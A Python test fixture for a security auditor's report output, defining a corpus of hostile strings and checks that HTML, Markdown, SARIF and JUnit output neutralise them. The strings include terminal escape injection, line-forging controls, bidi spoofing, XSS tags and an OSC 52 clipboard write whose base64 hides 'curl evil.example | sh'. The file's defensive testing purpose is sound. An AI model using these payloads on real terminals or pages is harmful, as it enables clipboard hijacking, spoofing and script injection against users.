"""One corpus of hostile text (issue 22), and what every channel's output must then hold.

Each value would, shown raw, drive a terminal (escape sequences, an OSC 52 clipboard
write, BEL), forge or hide a line (CR, U+2028, backspace), read other than it is (bidi
overrides, zero-width characters) or become markup or a link (Markdown, SARIF, HTML).
Every channel is tested against this one corpus; a snapshot or rule file refuses the
control characters (C0 but tab and line breaks, DEL, C1), so values that travel through
one are taken from `ADMISSIBLE`, and the rest reach a channel through a server's answer.
"""

from __future__ import annotations

import json
import re
from xml.etree import ElementTree

from auditor.safety.display import INVISIBLE

CORPUS: dict[str, str] = {
    "CSI colour": "\x1b[31mred\x1b[0m",
    "CSI clear screen": "\x1b[2J\x1b[H",
    "OSC 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "OSC 8 hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "BEL": "ring\x07ring",
    "NUL": "nul\x00byte",
    "backspace": "paid\x08\x08\x08\x08owed",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "DEL": "de\x7fl",
    "C1 CSI": "\x9b31mred",
    "C1 next line": "one\x85two",
    "C1 OSC and ST": "\x9d52;c;eA==\x9c",
    "carriage return": "safe\rFORGED",
    "line feed": "one\nFORGED: two",
    "CR LF": "one\r\ntwo",
    "line separator": "one\u2028FORGED",
    "paragraph separator": "one\u2029FORGED",
    "right-to-left override": "moc.\u202eelpmaxe",
    "bidi isolates": "\u2066admin\u2069 \u2067x\u2069 \u2068y\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero-width space and joiners": "ad\u200bmin\u200c\u200d",
    "word joiner": "no\u2060break",
    "byte order mark": "\ufeffbom",
    "tag characters": "flag\U000e0041\U000e007f",
    "Hangul filler": "x\u3164y",
    "Markdown link": "[click here](https://evil.example/login)",
    "Markdown image": "![x](https://evil.example/pixel.png)",
    "autolink": "<https://evil.example/>",
    "escaped bracket": "\\[still a link](https://evil.example/)",
    "SARIF placeholder": "{0} and {{1}}",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "HTML entity and quotes": "&amp; \"quoted\" 'single' `tick`",
}

JOINED = " ".join(CORPUS.values())
WORD_JOINER = "\u2060"  # md() puts one after @ and # on purpose, so that nobody is notified

# What a snapshot, settings, rule or waivers file admits: no control character but tab
# and line breaks (auditor/documents/plain_data.py).
_REFUSED_IN_FILES = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
ADMISSIBLE = {name: value for name, value in CORPUS.items()
              if not _REFUSED_IN_FILES.search(value)}
# Those that only a server's answer can bring.
CONTROLS = {name: value for name, value in CORPUS.items() if name not in ADMISSIBLE}
SHOWN = " ".join(ADMISSIBLE.values())

# What no output may hold raw: every C0 control but tab and line feed (a file's own
# layout), DEL, every C1 control, and the line and paragraph separators.
_DRIVING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")


def raw_characters(text: str, allowed: str = "") -> list[str]:
    """The code points of every character in `text` that would act or hide, raw."""
    found = _DRIVING.findall(text) + [c for c in INVISIBLE.findall(text) if c not in allowed]
    return sorted({f"U+{ord(char):04X}" for char in found})


def unescaped_link_characters(text: str) -> list[int]:
    """Where a SARIF plain text message holds "[" or "]" that is not escaped (SARIF 2.1.0,
    section 3.11.6): with every one escaped, no embedded link can form."""
    places, index = [], 0
    while index < len(text):
        if text[index] == "\\":
            index += 2
            continue
        if text[index] in "[]":
            places.append(index)
        index += 1
    return places


def sarif_messages(text: str) -> dict[str, list[str]]:
    """The texts of a SARIF log a viewer shows: plain text messages, Markdown help and
    suppression justifications."""
    [run] = json.loads(text)["runs"]
    rules = run["tool"]["driver"]["rules"]
    plain = [result["message"]["text"] for result in run["results"]]
    plain += [rule[key]["text"] for rule in rules
              for key in ("shortDescription", "fullDescription", "help")]
    return {"plain": plain, "markdown": [rule["help"]["markdown"] for rule in rules],
            "justification": [suppression["justification"] for result in run["results"]
                              for suppression in result.get("suppressions", [])]}


def assert_sarif_neutral(text: str) -> None:
    """No raw character anywhere, and no link or placeholder in any message."""
    assert raw_characters(text) == []
    messages = sarif_messages(text)
    for message in messages["plain"]:
        assert unescaped_link_characters(message) == [], message
        assert "{0}" not in message.replace("{{", ""), message  # braces doubled
    for markdown in messages["markdown"]:
        assert "[click here](" not in markdown, markdown


def assert_html_neutral(html: str) -> None:
    assert raw_characters(html) == []
    assert "<script>" not in html and "<img src=x" not in html


def assert_md_neutral(markdown: str) -> None:
    assert raw_characters(markdown, allowed=WORD_JOINER) == []
    assert "[click here](" not in markdown and "<script>" not in markdown


def assert_junit_neutral(xml: str) -> None:
    ElementTree.fromstring(xml)  # well-formed XML 1.0, whatever the values held
    assert raw_characters(xml) == []


# Each report format's check, by the name of the format.
NEUTRAL = {"html": assert_html_neutral, "md": assert_md_neutral, "sarif": assert_sarif_neutral,
           "junit": assert_junit_neutral}
